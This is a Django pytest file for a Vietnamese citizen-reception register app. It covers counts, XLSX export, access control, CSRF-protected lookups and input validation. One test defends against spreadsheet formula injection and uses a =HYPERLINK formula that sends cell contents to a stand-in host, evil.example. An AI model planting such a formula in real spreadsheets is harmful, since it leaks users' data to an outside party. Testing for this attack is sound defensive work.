"""The register (Mẫu 03/TCD), its counts and export, and the desk's pages."""

from __future__ import annotations

import datetime as dt
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from tiepdan.accounts.tests.factories import PASSWORD
from tiepdan.reception.models import Visit
from tiepdan.reception.selectors import REGISTER_COLUMNS, register_rows, visit_counts
from tiepdan.reception.tests.conftest import CITIZEN_ID, record, visitor

pytestmark = pytest.mark.django_db

MARCH = {"don_vi": "BTCD-T19", "tu": "01/03/2026", "den": "31/03/2026"}


def _march(desk):
    """Four visits in March: a group, a repeat of the first case, a guidance, a petition."""
    first = record(
        desk.reception,
        desk.board,
        outcome="guided",
        guidance_to="Tòa án nhân dân tỉnh",
        guidance_number="07/HD-BTCD",
        prior_bodies="UBND xã Đại Từ",
        within_competence=False,
    )
    record(desk.reception, desk.board, case_id=first.case_id, outcome="explained")
    group = [
        visitor(f"Người dân {n}", f"0190850012{n:02d}", is_representative=n <= 2)
        for n in range(1, 4)
    ]
    record(
        desk.reception,
        desk.board,
        visitors=group,
        people_count=8,
        head_received=True,
        outcome="petition_received",
        receiver_ids=[desk.leader.pk],
        received_at=dt.datetime(2026, 3, 20, 2, 0, tzinfo=dt.UTC),
    )
    record(desk.reception, desk.board, received_at=dt.datetime(2026, 4, 1, 2, 0, tzinfo=dt.UTC))
    return first


def _login(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


def test_register_rows_have_the_thirteen_columns_in_few_queries(desk):
    _march(desk)
    with CaptureQueriesContext(connection) as queries:
        rows = register_rows(desk.reception, desk.board, dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    assert len(queries) <= 6  # the units in scope (incl. a board's), rows, persons, petitions
    assert [r.cells[0] for r in rows] == [1, 2, 3]
    first = rows[0].cells
    assert len(first) == len(REGISTER_COLUMNS) == 13
    assert first[1] == dt.date(2026, 3, 2)
    assert first[2] == "Nguyễn Văn Đức, Xóm 3, xã Đại Từ"
    assert first[3] == CITIZEN_ID
    assert first[5] == "KN"
    assert first[7] == "UBND xã Đại Từ"
    assert first[8] == ""
    assert first[9] == "Tòa án nhân dân tỉnh, 07/HD-BTCD"
    assert rows[2].cells[6] == 8
    assert rows[2].cells[11].startswith("Đơn ")


def test_visit_counts_are_visits_persons_cases_and_groups(desk):
    _march(desk)
    counts = visit_counts(desk.board, dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    # Persons: Nguyễn Văn Đức once (he came twice), the group's 3 entered and 5 more of its 8.
    assert (counts.visits, counts.persons, counts.cases) == (3, 9, 2)
    assert (counts.first_cases, counts.repeated_cases, counts.group_visits) == (2, 0, 1)
    april = visit_counts(desk.board, dt.date(2026, 4, 1), dt.date(2026, 4, 30))
    assert (april.visits, april.cases, april.first_cases) == (1, 1, 1)


def test_register_page_shows_the_rows_and_counts(desk, client):
    _march(desk)
    response = _login(client, desk.reception).get(reverse("reception:register"), MARCH)
    assert response.status_code == 200
    assert len(response.context["rows"]) == 3
    assert response.context["counts"].visits == 3
    assert "Tòa án nhân dân tỉnh, 07/HD-BTCD" in response.content.decode()


def test_register_exports_to_xlsx_in_the_layout_of_the_form(desk, client):
    _march(desk)
    response = _login(client, desk.reception).get(reverse("reception:register_export"), MARCH)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet["A1"].value == "SỔ TIẾP CÔNG DÂN"
    assert sheet["A2"].value == "Ban Tiếp công dân tỉnh"
    assert sheet["A3"].value == "Từ ngày 01/03/2026 đến ngày 31/03/2026"
    headers = [cell.value for cell in sheet[5]]
    assert headers == list(REGISTER_COLUMNS)
    row = [cell.value for cell in sheet[6]]
    assert row[0] == 1
    assert row[1].date() == dt.date(2026, 3, 2)
    assert row[3] == CITIZEN_ID
    assert row[9] == "Tòa án nhân dân tỉnh, 07/HD-BTCD"
    assert sheet.cell(row=9, column=1).value is None  # three rows, then a blank line


def test_an_official_of_another_unit_cannot_see_the_register_or_history(desk, client):
    visit = _march(desk)
    _login(client, desk.commune_desk)
    assert client.get(reverse("reception:register"), MARCH).status_code == 404
    assert client.get(reverse("reception:register_export"), MARCH).status_code == 404
    detail = reverse(
        "reception:visit_detail",
        kwargs={"unit_code": "BTCD-T19", "year": visit.year, "serial": visit.serial},
    )
    assert client.get(detail).status_code == 404
    lookup = client.post(reverse("reception:citizen_lookup"), {"cccd": CITIZEN_ID})
    assert lookup.status_code == 200
    assert lookup.context["history"].is_empty


def test_an_official_with_no_reception_unit_is_refused_the_register(desk, client):
    from tiepdan.accounts.tests.factories import make_official

    nobody = make_official(desk.board, "unit_admin", username="quantri")
    assert _login(client, nobody).get(reverse("reception:register")).status_code == 403


def test_citizen_lookup_returns_earlier_visits_and_petitions(desk, client):
    visit = record(desk.reception, desk.board, outcome="petition_received")
    response = _login(client, desk.reception).post(
        reverse("reception:citizen_lookup"), {"cccd": CITIZEN_ID, "fragment": "1"}
    )
    html = response.content.decode()
    assert visit.petition.reference in html
    assert f"{visit.serial}/{visit.year}" in html
    assert "data-same-case" in html  # the fragment fills in the entry form
    assert "<html" not in html
    bad = client.post(reverse("reception:citizen_lookup"), {"cccd": "123"})
    assert bad.context["history"] is None
    assert "12" in bad.context["error"]


def test_citizen_lookup_takes_the_id_only_in_a_post_with_its_csrf_token(desk):
    from django.test import Client

    record(desk.reception, desk.board)
    client = Client(enforce_csrf_checks=True)
    _login(client, desk.reception)
    url = reverse("reception:citizen_lookup")
    # In the address it is not looked up: it would be written in the access logs.
    assert client.get(url, {"cccd": CITIZEN_ID}).context["history"] is None
    assert client.post(url, {"cccd": CITIZEN_ID}).status_code == 403  # no token
    page = client.get(url)  # without JavaScript: a page with a form
    html = page.content.decode()
    assert 'method="post"' in html
    assert 'name="csrfmiddlewaretoken"' in html
    token = page.context["csrf_token"]
    found = client.post(url, {"cccd": CITIZEN_ID, "csrfmiddlewaretoken": str(token)})
    assert found.status_code == 200
    assert [v.reference for v in found.context["history"].visits] == ["1/2026"]
    assert "data-same-case" not in found.content.decode()  # no entry form to fill in here
    entry = client.get(reverse("reception:visit_new")).content.decode()
    assert f'href="{url}"' in entry  # the way to it from the entry page, without JavaScript


def _entry_post(**extra):
    data = {
        "v1-citizen_id": CITIZEN_ID,
        "v1-full_name": "Nguyễn Văn Đức",
        "v1-address": "Xóm 3, xã Đại Từ",
        "summary": "Khiếu nại việc thu hồi đất",
        "petition_kind": "complaint",
        "outcome": "petition_received",
        "received_on": "02/03/2026",
        "received_time": "09:30",
        "kind": "regular",
    }
    data.update(extra)
    return data


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"tu": "01/01/0001"}, "tu"),
        ({"den": "31/12/9999"}, "den"),
        ({"tu": "31/12/9999"}, "tu"),
        ({"tu": "01/01/1989", "den": "31/01/1989"}, "tu"),
    ],
    ids=["from-year-1", "to-year-9999", "from-year-9999", "before-1990"],
)
def test_a_register_period_out_of_range_is_refused_next_to_the_input(desk, client, query, field):
    _login(client, desk.reception)
    page = client.get(reverse("reception:register"), {"don_vi": "BTCD-T19", **query})
    assert page.status_code == 200
    assert field in page.context["form"].errors
    export = client.get(reverse("reception:register_export"), {"don_vi": "BTCD-T19", **query})
    assert export.status_code == 400  # the page with the message, not another period's book
    assert field in export.context["form"].errors


def test_text_that_looks_like_a_formula_is_exported_as_text(desk, client):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    record(
        desk.reception,
        desk.board,
        visitors=[visitor("@Nguyễn Văn Đức", address="+84 Xóm 3")],
        summary=formula,
        prior_bodies="-1+1",
    )
    response = _login(client, desk.reception).get(reverse("reception:register_export"), MARCH)
    sheet = load_workbook(BytesIO(response.content)).active
    summary, names, prior = sheet["E6"], sheet["C6"], sheet["H6"]
    assert summary.value == formula
    assert names.value == "@Nguyễn Văn Đức, +84 Xóm 3"
    assert prior.value == "-1+1"
    assert {summary.data_type, names.data_type, prior.data_type} == {"s"}


def test_a_visit_number_no_visit_can_have_is_not_found(desk, client):
    _login(client, desk.reception)
    for year, serial in ((2026, 10**20), (10**6, 1)):
        url = reverse(
            "reception:visit_detail",
            kwargs={"unit_code": "BTCD-T19", "year": year, "serial": serial},
        )
        assert client.get(url).status_code == 404


def test_entry_page_has_sensible_defaults(desk, client):
    response = _login(client, desk.reception).get(reverse("reception:visit_new"))
    assert response.status_code == 200
    form = response.context["form"]
    assert form.initial["receivers"] == [str(desk.reception.pk)]
    assert form.initial["office"] == str(desk.board_office.pk)
    assert "autofocus" in str(response.context["people"][0]["citizen_id"])


def test_entering_a_visit_records_it_and_shows_the_history(desk, client):
    earlier = record(desk.reception, desk.board, outcome="petition_received")
    _login(client, desk.reception)
    response = client.post(reverse("reception:visit_new"), _entry_post())
    visit = Visit.objects.exclude(pk=earlier.pk).get()
    assert response.status_code == 302
    assert response["Location"].endswith(
        f"/tiep-dan/luot-tiep/BTCD-T19/2026/{visit.serial}/?recorded=1"
    )
    page = client.get(response["Location"]).content.decode()
    assert visit.petition.reference in page  # the new petition's tracking code
    assert earlier.petition.reference in page  # the person's earlier petition
    assert list(visit.receivers.all()) == [desk.reception]


def test_entry_page_keeps_what_was_typed_on_error(desk, client):
    _login(client, desk.reception)
    post = _entry_post(
        outcome="transferred",
        transfer_to="Sở Tài nguyên và Môi trường",
        people_count="12",
        head_received="on",
        **{
            f"v{n}-{key}": value
            for n in range(2, 6)
            for key, value in (
                ("full_name", f"Người dân {n}"),
                ("citizen_id", f"0190850012{n:02d}"),
                ("is_representative", "on"),
            )
        },
        **{"v1-is_representative": "on"},
    )
    post["v2-citizen_id"] = "0190"  # malformed
    response = client.post(reverse("reception:visit_new"), post)
    assert response.status_code == 400
    assert not Visit.objects.exists()
    form, people = response.context["form"], response.context["people"]
    assert "transfer_number" in form.errors
    assert "citizen_id" in people[1].errors
    html = response.content.decode()
    assert 'value="Sở Tài nguyên và Môi trường"' in html
    assert 'value="Người dân 3"' in html
    assert 'value="0190"' in html


@pytest.mark.parametrize(
    ("extra", "field"),
    [
        ({"received_on": "01/01/0001"}, "received_on"),
        ({"received_on": "31/12/9999"}, "received_on"),
        ({"people_count": str(10**20)}, "people_count"),
        ({"same_case_as": "99999999999999999999"}, "same_case_as"),
    ],
    ids=["year-1", "year-9999", "huge-count", "huge-case-number"],
)
def test_entry_page_refuses_input_out_of_range_next_to_it(desk, client, extra, field):
    # Explained at the desk, by the head, one representative: only the range is wrong.
    post = _entry_post(outcome="explained", head_received="on", **{"v1-is_representative": "on"})
    response = _login(client, desk.reception).post(
        reverse("reception:visit_new"), {**post, **extra}
    )
    assert response.status_code == 400
    assert field in response.context["form"].errors
    assert not Visit.objects.exists()


def test_a_leader_is_not_offered_to_record_a_written_petition(desk, client):
    from django.utils import translation

    with translation.override("en"):
        page = _login(client, desk.leader).get(reverse("reception:visit_new"))
        outcome = page.context["form"].fields["outcome"]
        labels = dict(outcome.choices)
        assert labels["petition_received"] == "Đơn đã được tiếp nhận (nhập mã hồ sơ)"
        assert "cán bộ tiếp công dân hoặc cán bộ xử lý đơn" in outcome.help_text
        response = client.post(reverse("reception:visit_new"), _entry_post())
    assert response.status_code == 400
    (message,) = response.context["form"].errors["outcome"]
    assert message.startswith("Chỉ cán bộ tiếp công dân hoặc cán bộ xử lý đơn mới được tiếp nhận")
    assert not Visit.objects.exists()
    assert 'value="Khiếu nại việc thu hồi đất"' in response.content.decode()  # kept


def test_entry_page_shows_the_group_limit_message(desk, client):
    _login(client, desk.reception)
    post = _entry_post(
        outcome="explained",
        people_count="12",
        head_received="on",
        **{
            f"v{n}-{key}": value
            for n in range(2, 6)
            for key, value in (
                ("full_name", f"Người dân {n}"),
                ("citizen_id", f"0190850012{n:02d}"),
                ("is_representative", "on"),
            )
        },
        **{"v1-is_representative": "on"},
    )
    ok = client.post(reverse("reception:visit_new"), post)
    assert ok.status_code == 302  # five representatives for twelve people
    assert Visit.objects.get().representatives_count == 5
